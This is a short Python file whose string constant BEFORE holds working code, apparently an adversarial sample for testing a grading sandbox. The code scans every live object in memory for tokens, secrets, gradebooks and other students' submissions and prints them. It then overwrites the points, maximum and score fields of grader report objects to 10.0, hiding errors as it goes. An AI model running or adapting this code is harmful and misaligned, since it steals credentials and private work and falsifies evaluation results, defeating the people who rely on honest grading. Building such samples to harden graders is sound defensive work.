"""Searches every object in memory for the judge, the seed, secrets and other students' work, prints them, and patches what it finds."""

POINTS = 0
BEFORE = r'''
import gc, sys
found = []
for thing in gc.get_objects():
    try:
        if isinstance(thing, (dict, list, tuple)) and len(thing) < 200:
            text = repr(thing)
            if any(word in text for word in ("token", "secret", "SECRET", "gradebook", "submitted")):
                found.append(text[:2000])
        if "eport" in type(thing).__name__ or "utcome" in type(thing).__name__:
            for name in ("points", "maximum", "full", "score"):
                object.__setattr__(thing, name, 10.0)
    except BaseException:
        pass
print("\n".join(found)[:90_000])
'''
